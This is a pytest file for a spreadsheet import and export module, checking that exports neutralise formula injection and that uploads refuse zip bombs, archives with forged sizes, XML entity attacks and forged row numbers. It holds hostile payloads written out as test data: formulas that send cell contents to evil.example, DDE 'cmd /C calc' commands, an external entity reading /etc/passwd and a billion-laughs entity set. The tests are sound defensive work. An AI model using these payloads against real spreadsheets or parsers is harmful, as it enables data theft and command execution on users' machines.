"""Planted attacks: formulas, bombs, lying archives, XML entities."""

import csv
import io
import itertools
import resource
import struct
import time
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from scrm.core.excel import read_table, write_csv, write_workbook
from scrm.core.exceptions import ValidationFailed

BODIES = [
    "HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", "1+1",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1)", "2",
]  # fmt: skip
MARKS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", " =", "  ＝"]
FORMULAS = [mark + body for mark, body in itertools.product(MARKS, BODIES)]
STARTERS = tuple("=+-@\t\r\n\0＝＋－＠")


def test_no_cell_of_an_export_is_a_formula() -> None:
    content = write_workbook(
        [("a", "=header"), ("b", "＠x")], [{"a": text, "b": text} for text in FORMULAS]
    )

    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 2 * (len(FORMULAS) + 1)
    assert len(FORMULAS) == 112
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if str(cell.value).lstrip(" ").startswith(STARTERS)] == []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_no_cell_of_a_csv_begins_like_a_formula() -> None:
    content = write_csv([("a", "=h")], [{"a": text} for text in FORMULAS])

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(FORMULAS) + 1
    assert [row[0] for row in rows if row[0].lstrip(" ").startswith(STARTERS)] == []


@pytest.mark.parametrize(
    "text",
    ["\x00\x01\x0b", "x" * 40_000, "\ud800 lone", "\ufffe\uffff", "]]>", "_x0041_", "😀" * 10],
)
def test_hostile_text_makes_a_workbook_that_opens(text: str) -> None:
    content = write_workbook([("a", "a")], [{"a": text}])

    assert load_workbook(io.BytesIO(content)).active is not None


def archive(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return buffer.getvalue()


def refused(data: bytes) -> tuple[str, float, int]:
    """Return the error code, the seconds it took and how many MB the process grew."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    with pytest.raises(ValidationFailed) as caught:
        list(read_table(io.BytesIO(data), filename="a.xlsx").rows)
    seconds = time.perf_counter() - started
    return (
        caught.value.code,
        seconds,
        (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024,
    )


def test_a_bomb_of_300_mb_is_refused_before_it_inflates() -> None:
    data = archive({"xl/worksheets/sheet1.xml": b"<row></row>" * (300 * 1024 * 1024 // 11)})
    assert len(data) < 2 * 1024 * 1024

    code, seconds, grown = refused(data)

    assert code == "file_too_large"
    assert seconds < 0.2
    assert grown < 20


def test_many_entries_and_a_high_ratio_are_refused() -> None:
    assert refused(archive({f"x{number}": b"" for number in range(201)}))[0] == "file_too_large"
    assert refused(archive({"x": b"\0" * 1_000_000}))[0] == "file_too_large"


def test_a_directory_that_lies_about_sizes_gains_nothing() -> None:
    whole = bytearray(archive({"xl/worksheets/sheet1.xml": b"<row></row>" * 3_000_000}))
    at = whole.index(b"PK\x01\x02")
    # compressed size stays; the inflated size is declared as 100 bytes, here and in the local header.
    struct.pack_into("<I", whole, at + 24, 100)
    struct.pack_into("<I", whole, 22, 100)

    code, seconds, grown = refused(bytes(whole))

    assert code == "file_damaged"
    assert seconds < 1
    assert grown < 30


def sheet_xml(rows: str, head: str = "") -> bytes:
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'<?xml version="1.0"?>{head}<worksheet xmlns="{ns}"><sheetData>{rows}</sheetData></worksheet>'.encode()


def workbook_with(sheet: bytes, **parts: bytes) -> bytes:
    made = write_workbook([("a", "a")], [])
    with zipfile.ZipFile(io.BytesIO(made)) as source:
        content = {name: source.read(name) for name in source.namelist()}
    return archive({**content, "xl/worksheets/sheet1.xml": sheet, **parts})


ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9))
    + "]>"
)


@pytest.mark.parametrize(
    "head",
    [
        ENTITIES,
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    ],
    ids=["billion laughs", "file", "remote dtd"],
)
def test_xml_entities_are_refused(head: str) -> None:
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row>'

    code, seconds, _grown = refused(workbook_with(sheet_xml(row, head)))

    assert code == "file_damaged"
    assert seconds < 1


def test_a_sheet_that_claims_millions_of_columns_is_read_within_bounds() -> None:
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>'
    many = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(2, 2000))

    started = time.perf_counter()
    table = read_table(io.BytesIO(workbook_with(sheet_xml(rows + many))), filename="a.xlsx")
    found = list(table.rows)

    assert table.headers == ["a"]
    assert found == []
    assert time.perf_counter() - started < 5


def test_a_forged_row_number_does_not_make_us_count_for_ever() -> None:
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
    far = '<row r="2000000000"><c r="A2000000000"><v>1</v></c></row>'

    code, seconds, grown = refused(workbook_with(sheet_xml(head + far)))

    assert code == "too_long"
    assert seconds < 10
    assert grown < 20


def test_a_header_must_come_within_the_first_rows() -> None:
    far = '<row r="2000000000"><c r="A2000000000"><v>1</v></c></row>'

    code, seconds, _grown = refused(workbook_with(sheet_xml(far)))

    assert code == "file_empty"
    assert seconds < 1


def test_formulas_in_an_upload_are_read_as_their_last_value_never_run() -> None:
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
        '<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example")</f><v>shown</v></c></row>'
    )

    table = read_table(io.BytesIO(workbook_with(sheet_xml(rows))), filename="a.xlsx")

    assert [row.values for row in table.rows] == [{"a": "shown"}]


@pytest.mark.parametrize("cut", [10, 100, 1000, -100, -22])
def test_a_workbook_cut_short_is_refused_in_words(cut: int) -> None:
    whole = write_workbook([("a", "a")], [{"a": str(number)} for number in range(100)])

    assert refused(whole[:cut])[0] in {"file_damaged", "file_too_large"}


def test_random_damage_gives_words_or_rows_but_never_another_error() -> None:
    whole = write_workbook(
        [("a", "a"), ("b", "b")], [{"a": str(number), "b": "x"} for number in range(50)]
    )
    outcomes: dict[str, int] = {}
    for position in range(0, len(whole), max(1, len(whole) // 150)):
        data = bytearray(whole)
        data[position] ^= 0xFF
        try:
            rows: list[Any] = list(read_table(io.BytesIO(bytes(data)), filename="a.xlsx").rows)
            outcomes["read"] = outcomes.get("read", 0) + bool(rows)
        except ValidationFailed as error:
            outcomes[error.code] = outcomes.get(error.code, 0) + 1

    assert outcomes.pop("file_damaged") > 50
    assert outcomes.keys() <= {
        "read",
        "file_locked",
        "file_too_large",
        "file_kind",
        "file_encoding",
        "file_empty",
        "header_doubled",
    }
